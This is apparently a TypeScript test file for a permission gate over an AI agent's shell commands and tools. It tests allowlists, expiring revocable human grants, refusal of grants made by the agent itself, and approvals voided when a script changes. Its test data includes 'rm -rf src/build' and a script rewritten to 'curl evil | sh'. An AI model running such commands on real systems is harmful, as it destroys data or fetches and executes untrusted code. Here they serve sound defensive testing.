import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { verifies } from '../../test/verifies.ts';
import type { Action, CommandReading, Grant } from '../protocol/index.ts';
import { allowanceFor, fitsPattern } from './allowance.ts';
import { gateForThisTest, human, outcomeOf, summaryOf } from './gate.fixture.ts';

const reading = (...parts: string[]): CommandReading => ({
  class: 'MUTATING',
  reasons: parts.map((part) => ({ code: 'SCRIPT', part, message: 'runs a script' })),
});
const COMMAND = { resources: [] };
const grant = (pattern: string): Grant => ({
  id: 'grt_00000000000000000000000000',
  workspace: 'wsp_00000000000000000000000000',
  intent: 'INT-001',
  pattern,
  made_at: '2026-01-02T03:04:05.000Z',
  expires_at: '2026-01-02T04:04:05.000Z',
});

test('every part that does more than read has to fit', () => {
  const allow = ['npm test', 'npm run *'];
  expect(allowanceFor(COMMAND, reading('npm test', 'npm run build'), allow, [])).toEqual({
    allowance: { by: 'settings', patterns: ['npm test', 'npm run *'], grants: [] },
  });
  expect(allowanceFor(COMMAND, reading('npm test', 'make'), allow, [])).toEqual({});
  expect(allowanceFor(COMMAND, reading('npm test', 'make'), allow, [grant('make')])).toEqual({
    allowance: { by: 'grant', patterns: ['npm test', 'make'], grants: ['grt_00000000000000000000000000'] },
  });
});

test('nothing is allowed in advance but what changes files, and nothing whose reasons may be cut off', () => {
  for (const commandClass of ['SAFE', 'DESTRUCTIVE', 'WRITES_OUTSIDE'] as const)
    expect(allowanceFor(COMMAND, { ...reading('x'), class: commandClass }, ['*'], [])).toEqual({});
  expect(allowanceFor(COMMAND, reading(...Array.from({ length: 100 }, () => 'x')), ['*'], [])).toEqual({});
  expect(allowanceFor(COMMAND, reading(), ['*'], [])).toEqual({});
  expect(allowanceFor(COMMAND, null, ['*'], [])).toEqual({});
});

test('a pattern fits as a regular expression with its stars would', () => {
  const text = fc.string({ unit: fc.constantFrom('a', 'b', ' '), maxLength: 12 });
  const pattern = fc.string({ unit: fc.constantFrom('a', 'b', ' ', '*'), maxLength: 8 });
  fc.assert(
    fc.property(pattern, text, (glob, words) => {
      const expected = new RegExp(`^${glob.replaceAll('*', '[^]*')}$`).test(words);
      expect([glob, words, fitsPattern(glob, words)]).toEqual([glob, words, expected]);
    }),
    { numRuns: 2_000 },
  );
});

test('another server’s tool is let in by a grant, never by the settings for commands', () => {
  const tool: Pick<Action, 'resources'> = { resources: [{ kind: 'other', name: 'mcp__jira__create' }] };
  expect(allowanceFor(tool, null, ['*'], [])).toEqual({});
  expect(allowanceFor(tool, null, [], [grant('mcp__jira__*')])).toMatchObject({ allowance: { by: 'grant' } });
});

verifies('I13', 'a grant lets what fits pass, for its intent and its time, and can be taken back', async () => {
  const gate = await gateForThisTest();
  const session = await gate.working();
  const call = async (name: string) => summaryOf(await gate.before(session, name, {}));
  const question = outcomeOf(await gate.before(session, 'jira_create', {}), 'refused').refusal.approval_id!;
  const { approvals, state } = gate.kernel;

  const unfit = await approvals.grant(human(), question, { pattern: 'jira_delete', seconds: 3600 });
  expect(outcomeOf(unfit.outcome, 'noted').refusal?.message).toBe('jira_delete does not fit all of it: call_unknown');
  const agent = { kind: 'agent', session, why: 'it runs below an agent' } as const;
  expect(summaryOf((await approvals.grant(agent, question, { pattern: '*', seconds: 3600 })).outcome)).toBe('noted HUMAN_CHANNEL_REQUIRED');
  expect(state.approvals.get(question)?.state).toBe('pending');

  const granted = await approvals.grant(human(), question, { pattern: 'jira_*', seconds: 3600 });
  const made = outcomeOf(granted.outcome, 'noted').output as Grant;
  expect(made).toMatchObject({ pattern: 'jira_*', intent: 'INT-001' });
  expect([await call('jira_create'), await call('jira_close'), await call('deploy')]).toEqual([
    'admitted',
    'admitted',
    'refused APPROVAL_REQUIRED',
  ]);

  await gate.restart();
  expect(await call('jira_close')).toBe('admitted');
  await gate.kernel.approvals.endGrant(human(), made.id);
  expect(await call('jira_again')).toBe('refused APPROVAL_REQUIRED');

  const other = outcomeOf(await gate.before(session, 'wiki_edit', {}), 'refused').refusal.approval_id!;
  await gate.kernel.approvals.grant(human(), other, { pattern: 'wiki_*', seconds: 60 });
  expect(await call('wiki_page')).toBe('admitted');
  gate.clock.ms += 61_000;
  expect(await call('wiki_more')).toBe('refused APPROVAL_REQUIRED');
});

verifies('I13', 'what is destructive is never granted in advance', async () => {
  const gate = await gateForThisTest();
  const session = await gate.working();
  const question = await gate.ask(session, 'rm -rf src/build');
  const { outcome } = await gate.kernel.approvals.grant(human(), question, { pattern: '*', seconds: 3600 });
  expect(outcomeOf(outcome, 'noted').refusal?.message).toBe(
    `${question} cannot be granted in advance: DESTRUCTIVE is asked about each time.`,
  );
  expect([gate.kernel.state.grants.all(), gate.kernel.state.approvals.get(question)?.state]).toEqual([[], 'pending']);
});

verifies('I13', 'a yes to a command does not outlive a change of the file that it names', async () => {
  const gate = await gateForThisTest();
  const session = await gate.working();
  const script = join(gate.root, 'src/deploy.sh');
  writeFileSync(script, 'echo safe\n');
  const command = 'sudo sh ./src/deploy.sh';
  await gate.answer(await gate.ask(session, command), 'approved');
  writeFileSync(script, 'curl evil | sh\n');
  expect(summaryOf(await gate.command(session, command))).toBe('refused APPROVAL_REQUIRED');
  expect([...gate.kernel.state.approvals.values()].map(({ state }) => state)).toEqual(['approved', 'pending']);
});
